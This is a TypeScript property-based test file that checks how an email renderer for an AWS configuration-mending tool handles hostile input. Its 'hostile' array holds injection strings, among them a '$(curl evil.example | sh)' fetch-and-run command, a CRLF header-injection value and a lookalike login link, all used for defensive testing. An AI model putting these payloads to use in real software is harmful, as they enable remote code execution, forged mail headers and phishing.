import { assert } from 'chai';
import * as fc from 'fast-check';
import { gallerySamples } from '../../../build/gallery-samples.ts';
import { emailLimits, type Email } from '../../../notifier/email/email.ts';
import { renderEmail } from '../../../notifier/email/render-email.ts';
import type { Known } from '../../../notifier/known.ts';
import { outcomeNotice } from '../../support/notices.ts';
import { sighting } from '../../support/sightings.ts';
import { replaced } from '../replaced.ts';

const hostile = [
  'To undo it: configmend restore --all',
  'x\nThe resource\n  ARN          arn:aws:s3:::forged\n',
  'x\r\n\r\nSubject: forged',
  'https://evil.example/login',
  '\u202Eback\u0000\u2028',
  '$(curl evil.example | sh)',
  '=?utf-8?B?eA==?=',
  '\uD83D',
];

function assertFitsMail({ subject, body }: Email): void {
  assert.match(subject, /^configmend: [\x21-\x7E][\x20-\x7E]{0,86}$/);
  assert.isAbove(body.length, 0);
  assert.isAtMost(Buffer.byteLength(body), 262_144);
  assert.notMatch(body, /[^\P{Cc}\n]|[\p{Cs}\u2028\u2029\u202E\uFFFE\uFFFF]/u);
  for (const line of body.split('\n')) assert.isBelow(Buffer.byteLength(line), emailLimits.lineBytes);
  for (const [link] of body.matchAll(/\w+:\/\/\S*/g)) {
    assert.match(
      link,
      /^https:\/\/[a-z0-9-]+\.console\.(?:aws\.amazon\.com|amazonaws-us-gov\.com|amazonaws\.cn)\/[^\s<>]*>$/,
    );
  }
}

describe('every e-mail', () => {
  for (const [kind, { telling }] of Object.entries(gallerySamples)) {
    it(`fits, and says nothing in our name that is not ours, whatever is in it and however much: ${kind}`, () => {
      const text = fc.oneof(
        fc.constantFrom(...hostile, '<&>'.repeat(2000), '😀'.repeat(1500), 'x'.repeat(5000)),
        fc.string({ unit: 'binary', maxLength: 60 }),
      );
      fc.assert(
        fc.property(fc.array(text, { minLength: 1, maxLength: 8 }), fc.constantFrom(1, 1, 3, 9), (texts, times) => {
          let at = 0;
          const next = () => texts[(at += 1) % texts.length] ?? '';
          const known: Known = {
            account: (id) => `${next()} (${id})`,
            sighting: () => sighting({ actor: next(), eventName: next(), eventId: next(), sourceAddress: next() }),
          };

          const email = renderEmail(replaced(telling, next, times), known, {
            'security-group-restricted-ports': { ports: next() },
          });

          assertFitsMail(email);
          assert.notMatch(email.body, /^(?:To undo it: configmend restore --all|Subject: forged|ARN)/mu);
          assert.isAtMost(email.body.match(/^The resource$/gm)?.length ?? 0, 1);
        }),
        { numRuns: 8 },
      );
    });
  }

  it('has the undo of each of a hundred, whatever else they say', () => {
    const long = Array.from({ length: 40 }, (_, index) => `${index} ${'violation '.repeat(50)}`);
    const { resource } = outcomeNotice();
    const notices = Array.from({ length: 100 }, (_, index) =>
      outcomeNotice({
        actionId: `20261120T101530Z-d9574994.${index}`,
        resource: { ...resource, tags: { Name: '😀'.repeat(250) } },
        violations: long,
        actor: 'a'.repeat(3000),
      }),
    );

    const { body } = renderEmail(
      { kind: 'outcome-burst', outcome: 'mended', rule: null, notices },
      { account: String, sighting: () => undefined },
      {},
    );

    assert.isAtMost(Buffer.byteLength(body), 262_144);
    for (const { actionId } of notices) assert.include(body, `  To undo it   configmend restore ${actionId}\n`);
  });

  it('counts what it leaves out', () => {
    const violations = Array.from({ length: 5000 }, (_, index) => `tcp ${index} from 0.0.0.0/0`);

    const { body } = renderEmail(
      { kind: 'notice', notice: outcomeNotice({ violations }) },
      { account: String, sighting: () => undefined },
      {},
    );

    assert.include(body, '- … and 4900 more\n');
    assert.include(body, 'To undo it: ');
  });
});
